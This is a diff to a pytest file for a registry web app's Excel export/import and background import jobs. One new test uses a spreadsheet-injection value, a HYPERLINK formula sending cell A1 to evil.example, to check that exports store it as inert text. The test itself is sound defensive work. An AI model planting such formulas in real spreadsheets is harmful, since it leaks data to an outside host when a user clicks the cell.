@@ -7,13 +7,16 @@ import datetime as dt
 import io
 import json
 import random
+import re
 import time
+import zipfile
 
 import openpyxl
 import pytest
 from sqlalchemy import func, select
 
 from tests.factories import make_org, make_unit, make_user
+from webapp import storage
 from webapp.audit import AuditEvent
 from webapp.auth.models import Role
 from webapp.extensions import db as _db
@@ -466,6 +469,30 @@ def test_export_honours_the_list_filters_and_the_organisation(client, db, login_
     assert names("?status=closed") == {"已关门的豫鑫分店"}
 
 
+def test_a_formula_typed_as_a_unit_name_is_exported_as_text_and_imports_again(client, db, login_as, supervisor):
+    """The review's unit name is text in the export (no formula in the file, Excel's quote prefix on the cell);
+    an address starting with - and an industry with + keep their text; the file imports again unchanged."""
+    login_as(supervisor)
+    org = supervisor.org
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    make_unit(org, name=evil, industry="+餐饮", address="-1层商铺", legal_rep="@李", complaint_count=2)
+    db.session.commit()
+    resp = client.get("/registry/units/export.xlsx")
+    assert resp.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
+        assert not re.search(r"<f[\s>]", z.read("xl/worksheets/sheet1.xml").decode())
+    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
+    cells = {c.value: c for c in ws[2] if c.value is not None}
+    for text in (evil, "+餐饮", "-1层商铺", "@李"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    assert cells[2].data_type == "n"  # 投诉次数 stays a number
+
+    job = import_ok(client, resp.data, org, filename="export.xlsx")
+    assert (job.total_rows, job.created_count, job.updated_count) == (1, 0, 0)
+    unit = _db.session.execute(select(Unit)).scalar_one()
+    assert (unit.name, unit.industry, unit.address, unit.legal_rep) == (evil, "+餐饮", "-1层商铺", "@李")
+
+
 # --------------------------------------------------------------------------------- job page, thread
 
 
@@ -494,13 +521,13 @@ def test_the_job_page_polls_while_running_and_stops_when_done(client, db, login_
     assert "导入成功" in body
 
 
-def test_a_job_stuck_for_half_an_hour_is_marked_failed(client, db, login_as, supervisor):
+def test_a_job_no_worker_took_for_half_an_hour_is_marked_failed(client, db, login_as, supervisor):
     login_as(supervisor)
     job = ImportJob(
         kind="units",
         org_id=supervisor.org_id,
         filename="a.xlsx",
-        status="running",
+        status="pending",
         created_by_id=supervisor.id,
         created_at=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=31),
     )
@@ -510,6 +537,58 @@ def test_a_job_stuck_for_half_an_hour_is_marked_failed(client, db, login_as, sup
     assert "导入超过30分钟仍未完成" in body
     db.session.refresh(job)
     assert job.status == "failed"
+
+
+def dead_worker_job(supervisor, minutes_ago: int = 2) -> ImportJob:
+    """An import as a worker killed mid-run leaves it: running, its file on disk, no sign of life for a while."""
+    job = ImportJob(
+        kind="units",
+        org_id=supervisor.org_id,
+        filename="a.xlsx",
+        status="running",
+        total_rows=5000,
+        processed_rows=2000,
+        created_by_id=supervisor.id,
+        created_at=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes_ago),
+    )
+    _db.session.add(job)
+    _db.session.commit()
+    storage.put_object(services.job_upload(job), xlsx([HEADERS, row("甲", uscc())]))
+    return job
+
+
+def test_finding_6_a_job_whose_worker_died_is_marked_failed_within_a_minute(client, db, login_as, supervisor):
+    login_as(supervisor)
+    job = dead_worker_job(supervisor)
+    name = services.job_upload(job)
+    body = client.get(f"/registry/imports/{job.public_id}", headers={"HX-Request": "true"}).get_data(as_text=True)
+    assert "hx-trigger" not in body  # no longer polling
+    assert "后台处理中断" in body and "未导入任何数据" in body and "请重新上传" in body
+    assert latest_job().status == "failed" and latest_job().finished_at is not None
+    assert not storage.object_exists(name)  # the upload is deleted with the job's end
+
+
+def test_finding_6_the_minute_check_fails_dead_jobs_without_anyone_looking(db, supervisor):
+    from webapp import worker
+
+    job = dead_worker_job(supervisor)
+    alive = dead_worker_job(supervisor, minutes_ago=0)  # its worker is still at it
+    worker.check_jobs.call_local()
+    assert _db.session.get(ImportJob, job.id).status == "failed"
+    assert _db.session.get(ImportJob, alive.id).status == "running"
+    assert not storage.object_exists(services.job_upload(job)) and storage.object_exists(services.job_upload(alive))
+
+
+def test_finding_6_uploaded_files_are_deleted_when_the_job_ends(client, db, login_as, supervisor):
+    login_as(supervisor)
+    before = set(storage.list_objects("imports/"))
+    done = import_ok(client, xlsx([HEADERS, row("甲", uscc())]), supervisor.org)
+    assert not storage.object_exists(services.job_upload(done))
+    upload(client, xlsx([HEADERS, row("乙", "不是代码")]), org=supervisor.org)
+    failed = latest_job()
+    assert failed.status == "failed"
+    assert not storage.object_exists(services.job_upload(failed))
+    assert set(storage.list_objects("imports/")) - before == {services.errors_object(failed)}  # only its bad rows
 
 
 def test_a_large_import_runs_in_the_background_with_progress(app, client, db, login_as, supervisor, monkeypatch):
